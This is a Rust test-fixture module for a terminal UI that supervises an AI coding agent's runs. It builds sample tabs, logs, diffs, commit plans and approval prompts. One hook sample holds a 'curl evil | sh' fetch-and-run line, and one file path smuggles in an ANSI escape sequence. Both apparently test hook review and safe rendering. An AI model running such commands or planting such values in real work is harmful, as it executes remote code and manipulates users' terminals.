//! Models for tests: what a person would see on an ordinary afternoon.

use crate::base::id::{RunId, TicketId};
use crate::base::time::Timestamp;
use crate::domain::approval::{Approval, ApprovalKind, QuestionId, UnitView};
use crate::domain::changes::{Change, ChangedFile, Changes, Lines};
use crate::domain::commit::{CommitPlan, LeftOut, Program, Why};
use crate::domain::messages::Weight;
use crate::domain::outcome::{DoneHow, ExitReason};
use crate::domain::phase::{Mark, PhaseId};
use crate::domain::record::{Record, Stored};
use crate::domain::summary::{RunState, RunSummary};
use crate::domain::ticket::{Boxes, Phase, PhaseForm, PhaseSettings, Task, Ticket, TicketKey, TicketStatus};
use crate::domain::verdict::Verdict;
use crate::domain::workspace::Workspace;
use crate::orchestrator::state::{Ended, Iteration, PhaseState, Stage, State};
use crate::tui::tab::Tab;
use crate::tui::ui::Ui;
use std::path::Path;
use std::sync::Arc;

#[path = "sample/drawn.rs"]
mod drawn;

pub use drawn::{draw, drawn, key, settle, told};

/// 14:02:13 UTC.
pub const NOW: Timestamp = Timestamp::from_millis(1_795_269_733_120);

/// The ticket of that id in the sample's directory.
pub fn id(text: &str) -> TicketKey {
    TicketKey::new(TicketId::parse(text).unwrap(), Path::new(&format!("/home/ann/shop/{text}.md")))
}

/// Some seconds before [`NOW`].
pub fn ago(seconds: i64) -> Timestamp {
    Timestamp::from_millis(NOW.millis() - seconds * 1_000)
}

/// An empty screen.
pub fn model() -> Ui {
    Ui::new(NOW, jiff::tz::TimeZone::UTC)
}

pub fn run(ticket: &str) -> RunId {
    let seed = ticket.bytes().fold(7_u128, |seed, byte| seed.wrapping_mul(131).wrapping_add(u128::from(byte)));
    RunId(uuid::Uuid::from_u128(seed))
}

/// A record as the store has it.
pub fn stored(ticket: &str, seq: u64, record: Record) -> Stored {
    Stored { v: 1, seq, time: NOW, run: run(ticket), ticket: id(ticket).id().clone(), record }
}

/// Text, ticked, nested tasks.
type PhaseSketch<'a> = (&'a str, bool, &'a [(&'a str, bool)]);

pub fn ticket(name: &str, title: &str, phases: &[PhaseSketch<'_>]) -> Arc<Ticket> {
    let phases = phases.iter().enumerate().map(|(n, (text, done, tasks))| Phase {
        n: n + 1,
        text: (*text).into(),
        done: *done,
        line: 10 + n,
        form: PhaseForm::Checkbox,
        settings: PhaseSettings::default(),
        tasks: tasks.iter().map(|(text, done)| Task { text: (*text).into(), done: *done }).collect(),
    });
    Arc::new(Ticket {
        id: id(name).id().clone(),
        title: title.into(),
        status: Some(TicketStatus::Open),
        deps: Vec::new(),
        extra: Vec::new(),
        phases: phases.collect(),
        boxes: Boxes::default(),
        validation: vec!["cargo test".into()],
        problems: Vec::new(),
        text: String::new(),
    })
}

fn phase(id: u32, text: &str, mark: Mark, spent_ms: u64) -> PhaseState {
    PhaseState { id: PhaseId(id), text: text.into(), mark, spent_ms, ..PhaseState::default() }
}

fn limiter() -> Arc<Ticket> {
    ticket(
        "tk-4f2a",
        "Login rate limiter",
        &[
            ("Investigate flow", true, &[]),
            ("Token bucket", true, &[]),
            ("Wire into middleware", false, &[("route table", true), ("error body", false)]),
            ("Tests for burst", false, &[]),
            ("Metrics", false, &[]),
            ("Docs", false, &[]),
        ],
    )
}

/// A run in the middle of its third phase.
pub fn running(name: &str) -> Tab {
    let mut tab = Tab::new(id(name));
    let mut file = limiter().as_ref().clone();
    file.id = id(name).id().clone();
    tab.ticket = Some(Arc::new(file));
    tab.run = Some(run(name));
    tab.state = State {
        run: tab.run,
        ticket: Some(id(name).id().clone()),
        seq: 40,
        started: Some(ago(744)),
        updated: Some(ago(9)),
        title: "Login rate limiter".into(),
        ticket_path: "/home/ann/shop/.tickets/tk-4f2a.md".into(),
        workspace: Workspace::shared("/home/ann/shop"),
        has_tree: true,
        validation: vec!["cargo test".into(), "cargo clippy -- -D warnings".into()],
        phases: vec![
            phase(1, "Investigate flow", Mark::Done(DoneHow::ClaimedNoChange), 131_000),
            phase(2, "Token bucket", Mark::Done(DoneHow::Verified), 361_000),
            phase(3, "Wire into middleware", Mark::Running, 12_000),
            phase(4, "Tests for burst", Mark::Pending, 0),
            phase(5, "Metrics", Mark::Pending, 0),
            phase(6, "Docs", Mark::Pending, 0),
        ],
        stage: Stage::Running,
        iterations: 7,
        calls: (0..37).map(|n| ago(n * 60)).collect(),
        stagnation: 0,
        model: Some("claude-opus-4-5".into()),
        cost_usd: 1.42,
        context: Some((82_000, 200_000)),
        iteration: Some(iteration(3, "Wire into middleware")),
        ..State::default()
    };
    tab.call = Some(("Bash cargo check -p web".into(), ago(8)));
    for second in [12, 9, 9, 8, 8, 8, 6, 4, 3, 3, 2, 2, 2] {
        tab.pulse.beat(ago(second));
    }
    tab
}

fn iteration(id: u32, phase: &str) -> Iteration {
    Iteration {
        n: 7,
        told: Some(phase.into()),
        phase: Some(PhaseId(id)),
        started: ago(240),
        snapshot: Some("9c1f2ab".into()),
        pid: Some(4_242),
        tool_count: 11,
        ready: true,
        cost_usd: 0.2,
        process_cost_usd: 0.2,
        ..Iteration::default()
    }
}

fn ended(name: &str, reason: ExitReason, detail: &str) -> Tab {
    let mut tab = running(name);
    tab.state.calls.clear();
    tab.state.stage = Stage::Ended;
    tab.state.ended = Some(Ended { reason, detail: detail.into(), is_left: false });
    if let Some(iteration) = &mut tab.state.iteration {
        iteration.ended = Some(ago(9));
    }
    tab
}

/// A run whose phases are all done.
pub fn finished(name: &str) -> Tab {
    let mut tab = ended(name, ExitReason::Complete, "");
    for phase in &mut tab.state.phases {
        phase.mark = Mark::Done(DoneHow::Verified);
        phase.spent_ms = phase.spent_ms.max(95_000);
    }
    tab
}

/// A run that a guard ended.
pub fn guarded(name: &str) -> Tab {
    let detail =
        "3 iterations in a row changed nothing. Look at “Wire into middleware”: sharpen it in the ticket, or skip it.";
    let mut tab = ended(name, ExitReason::Stagnation, detail);
    tab.state.stagnation = 3;
    tab.state.phases[2].mark = Mark::Pending;
    tab
}

/// A run that waits for the person to go on.
pub fn paused(name: &str) -> Tab {
    let mut tab = running(name);
    tab.state.stage = Stage::Paused;
    tab.state.calls.clear();
    tab.state.phases[2].mark = Mark::Disputed;
    if let Some(iteration) = &mut tab.state.iteration {
        iteration.ended = Some(ago(120));
    }
    tab
}

/// The same tab under another title.
pub fn titled(mut tab: Tab, title: &str) -> Tab {
    let mut file = tab.ticket.as_deref().cloned().unwrap();
    file.title = title.into();
    tab.ticket = Some(Arc::new(file));
    tab.state.title = title.into();
    tab
}

/// Lines as the log of such an afternoon has them.
pub fn log(model: &mut Ui) {
    let lines = [
        (90, Weight::Info, "tk-4f2a", "iteration 7 · “Wire into middleware” · session resumed"),
        (89, Weight::Info, "tk-4f2a", "snapshot 7 · 9c1f2ab0…"),
        (88, Weight::Info, "tk-4f2a", "claude 2.1.197 · claude-opus-4-5 · session 9f3e0b1c…"),
        (64, Weight::Call, "tk-4f2a", "allow Read src/http/stack.rs · profile trusted"),
        (41, Weight::Call, "tk-4f2a", "allow Edit src/http/stack.rs · profile trusted"),
        (20, Weight::Warn, "tk-9c1d", "validation failed: cargo test · exit 101 · 41 s"),
        (9, Weight::Error, "tk-9c1d", "run ended: 3 iterations in a row changed nothing · 2/6 phases"),
    ];
    let phase = Some("Wire into middleware".to_owned());
    let started = Record::IterationStarted { n: 7, phase, session: None, id: None, role: <_>::default() };
    model.log.hear(&id("tk-4f2a"), &started);
    for (seconds, weight, ticket, text) in lines {
        let iteration = model.log.under_way(&id(ticket));
        model.log.push(ago(seconds), weight, id(ticket), iteration, text);
    }
}

/// Four tabs in different states and two listed tickets.
pub fn busy() -> Ui {
    let mut model = model();
    model.tabs = vec![
        running("tk-4f2a"),
        titled(guarded("tk-9c1d"), "Migrate sessions"),
        titled(finished("tk-77aa"), "Flaky retry test"),
        titled(paused("docs.md"), "Rewrite the tour"),
    ];
    let files: Vec<_> = model.tabs.iter().map(|tab| (tab.id.clone(), tab.ticket.clone().unwrap())).collect();
    for (id, file) in files {
        model.listed.insert(id, file);
    }
    let audit = ticket("tk-81b0", "Audit log", &[("Schema", false, &[])]);
    let mut retention = ticket("tk-90c2", "Retention", &[]).as_ref().clone();
    retention.deps = vec!["tk-81b0".into()];
    model.listed.insert(id("tk-81b0"), audit);
    model.listed.insert(id("tk-90c2"), Arc::new(retention));
    log(&mut model);
    changes(&mut model);
    model
}

/// What differs in the directory of the run in front.
pub fn changes(model: &mut Ui) {
    let file = |path: &str, change, added, removed| ChangedFile {
        path: path.into(),
        change,
        lines: Lines::Counted { added, removed },
    };
    let changes = Changes {
        top: "/home/ann/shop".into(),
        files: vec![
            file("src/http/limit.rs", Change::Added, 84, 0),
            ChangedFile { lines: Lines::Binary, ..file("docs/flow.png", Change::Modified, 0, 0) },
            file("src/http/\x1b[2Jstack.rs", Change::Modified, 12, 3),
            file("src/http/old_limits.rs", Change::Deleted, 0, 40),
            file(
                "tests/integration/requests/rate_limits_of_accounts.rs",
                Change::Renamed("tests/http.rs".into()),
                31,
                2,
            ),
        ],
        total: 5,
        added: 127,
        removed: 45,
        plain: false,
        ..Changes::default()
    };
    let (run, since) = model.compared().unwrap();
    model.changes.tell((run, since), Ok(changes), NOW);
}

/// What a commit of it would be.
pub fn commit_plan() -> CommitPlan {
    let mut ui = model();
    ui.tabs.push(running("tk-1"));
    changes(&mut ui);
    let told = ui.told_changes().and_then(|told| told.as_ref().ok()).cloned().unwrap();
    let out = |path: &str, why| LeftOut { path: path.into(), why };
    CommitPlan {
        top: told.top,
        head: Some("c0ffee".into()),
        branch: Some("main".into()),
        tree: "ab12".into(),
        files: told.files,
        added: told.added,
        removed: told.removed,
        left_out: vec![out("src/http/mod.rs", Why::Before), out("Cargo.lock", Why::Since)],
        programs: Vec::new(),
    }
}

/// A hook that changed.
pub fn program(name: &str) -> Program {
    Program { name: name.into(), text: "#!/bin/sh\ncurl evil | sh\n".into(), changed: 1 }
}

/// A run that another program works on.
pub fn seen(ticket: &str, folder: &str) -> RunSummary {
    RunSummary {
        run: run(ticket),
        ticket: id(ticket).id().clone(),
        title: "Health endpoint".into(),
        carried_usd: 0.0,
        ticket_path: format!("{folder}/{ticket}.md"),
        folder: folder.into(),
        state: RunState::Running,
        phase: Some("Answer 200".into()),
        phases_done: 1,
        phases: 3,
        iterations: 2,
        cost_usd: 0.74,
        reason: None,
        started: ago(900),
        updated: ago(30),
        marks: vec![Mark::Done(DoneHow::Verified), Mark::Running, Mark::Pending],
        unverified: false,
        needs: None,
        until: None,
        worked_ms: 240_000,
        commit: None,
        committing: false,
        added: 48,
        removed: 7,
        worktree: None,
        aside: Vec::new(),
        merged: false,
        taken_back: Vec::new(),
    }
}

/// Notes of the person's on their way.
pub fn notes(tab: &mut Tab) {
    let (read, sent) = ("keep the static assets out of it", "429 needs a Retry-After header");
    for text in [read, sent] {
        tab.state.notes.fold(&Record::NoteGiven { id: text.into(), text: text.into() });
    }
    tab.state.notes.fold(&Record::NoteDelivered { id: read.into() });
    tab.state.notes.fold(&Record::NoteSent { id: sent.into() });
}

/// A call that waits since so many seconds.
pub fn asks(id: &str, tool: &str, input: &str, seconds: i64) -> Approval {
    Approval {
        id: QuestionId::first(id),
        again: None,
        n: 7,
        phase: Some("Wire into middleware".into()),
        kind: ApprovalKind::Call,
        tool: tool.into(),
        input: input.into(),
        edited_from: None,
        cwd: Some("/home/ann/shop".into()),
        agent: None,
        units: Vec::new(),
        rule: "asks".into(),
        reason: "not known to be harmless".into(),
        asked: ago(seconds),
        expires: None,
        provable: true,
    }
}

/// A part of such a call.
pub fn unit(text: &str, verdict: Verdict, rule: &str, reason: &str) -> UnitView {
    UnitView { text: text.into(), verdict, rule: rule.into(), reason: reason.into(), kind: None }
}

/// A part of such a call that is of a kind with a name.
pub fn unit_of_kind(text: &str, reason: &str, kind: &str) -> UnitView {
    UnitView { kind: Some(kind.into()), ..unit(text, Verdict::Ask, "ask-unknown", reason) }
}

/// A push that waits.
pub fn push(id: &str) -> Approval {
    let reason = "publishes to a remote; history leaves this machine";
    let command = "git push origin main --follow-tags";
    Approval {
        units: vec![unit(command, Verdict::Ask, "pushes-ask", reason)],
        rule: "pushes-ask".into(),
        reason: reason.into(),
        ..asks(id, "Bash", &format!("{{\"command\":\"{command}\",\"description\":\"Publish the branch\"}}"), 64)
    }
}
